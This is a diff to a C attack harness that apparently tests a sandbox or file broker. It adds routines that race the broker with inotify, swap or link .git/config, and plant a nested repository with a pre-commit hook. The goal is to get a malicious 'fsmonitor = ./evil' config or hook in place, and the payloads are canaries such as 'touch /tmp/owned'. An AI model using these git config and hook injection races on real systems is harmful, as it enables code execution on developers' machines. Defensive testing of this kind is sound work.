@@ -1,6 +1,7 @@
 /* Plants something that runs outside later, by calls that a name check may not see. argv[1]: the
  * way. */
 #include "attack.h"
+#include <sys/inotify.h>
 
 #define HOOK "#!/bin/sh\ntouch /tmp/owned\n"
 #define EVIL "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./evil\n"
@@ -210,6 +211,81 @@ static void opath_config(void)
 	put(at("/proc/self/cwd", ".git/config"), EVIL);
 }
 
+/* The broker installs a copy of its own under another name first: that name is opened, or linked,
+ * the moment it appears, and written to once it has become the configuration. */
+static void *catch_copy(void *arg)
+{
+	int watch = inotify_init1(0), caught[16] = {0};
+	char buf[4096] __attribute__((aligned(8)));
+
+	inotify_add_watch(watch, in("P", ".git"), IN_CREATE | IN_MOVED_TO);
+	for (unsigned n = 0;;) {
+		ssize_t len = read(watch, buf, sizeof buf);
+
+		for (char *p = buf; len > 0 && p < buf + len;) {
+			struct inotify_event *e = (struct inotify_event *)p;
+			const char *path = at(in("P", ".git"), e->len ? e->name : ".");
+
+			if (e->len && strcmp(e->name, "config.lock") != 0) {
+				int fd = open(path, O_WRONLY);
+
+				if (fd >= 0) {
+					if (caught[n % 16] > 0)
+						close(caught[n % 16]);
+					caught[n++ % 16] = fd;
+				}
+				link(path, in("P", "second"));
+			}
+			p += sizeof *e + e->len;
+		}
+		for (int i = 0; i < 16; i++)
+			if (caught[i] > 0)
+				(void)!pwrite(caught[i], EVIL, strlen(EVIL), 0);
+		put(in("P", "second"), EVIL);
+		unlink(in("P", "second"));
+	}
+	return arg;
+}
+
+static void caught_copy(void)
+{
+	(void)thread(catch_copy, NULL);
+	usleep(50000);
+	while (racing()) {
+		put(in("P", ".git/config.lock"), "[core]\n\trepositoryformatversion = 0\n");
+		rename(in("P", ".git/config.lock"), config);
+	}
+	usleep(200000);
+}
+
+/* The configuration is taken away first, which plants nothing; then it is made anew. */
+static void absent(const char *how)
+{
+	say("unlink", unlink(config) < 0 ? rename(config, in("P", "old")) : 0);
+	put(in("P", "evil"), EVIL);
+	if (strcmp(how, "absent-open") == 0)
+		put(config, EVIL);
+	else if (strcmp(how, "absent-link") == 0)
+		say("link", link(in("P", "evil"), config));
+	else if (strcmp(how, "absent-symlink") == 0)
+		say("symlink", symlink("../evil", config));
+	else if (strcmp(how, "absent-back") == 0) {
+		put(in("P", "old"), EVIL);
+		say("rename", rename(in("P", "old"), config));
+	}
+}
+
+/* What this run made is its own - but not the hooks in it. */
+static void nested_hook(void)
+{
+	mkdir(in("P", "n"), 0755);
+	mkdir(in("P", "n/.git"), 0755);
+	mkdir(in("P", "n/.git/hooks"), 0755);
+	put(in("P", "n/.git/hooks/pre-commit"), HOOK);
+	put(in("P", "n/.git/config"), EVIL);
+	rename(in("P", "n"), in("P", "m"));
+}
+
 static void suid(void)
 {
 	put(in("P", "s"), "x");
@@ -250,12 +326,16 @@ int main(int argc, char **argv)
 		{"truncate", truncate_config},
 		{"opath", opath_config},
 		{"suid", suid},
+		{"caught-copy", caught_copy},
+		{"nested-hook", nested_hook},
 		{"suid-create", suid_create},
 	};
 
 	attack_begin();
 	hook = in("P", ".git/hooks/pre-commit");
 	config = in("P", ".git/config");
+	if (argc > 1 && strncmp(argv[1], "absent-", 7) == 0)
+		absent(argv[1]);
 	for (size_t i = 0; argc > 1 && i < sizeof ways / sizeof ways[0]; i++)
 		if (strcmp(ways[i].name, argv[1]) == 0)
 			ways[i].way();
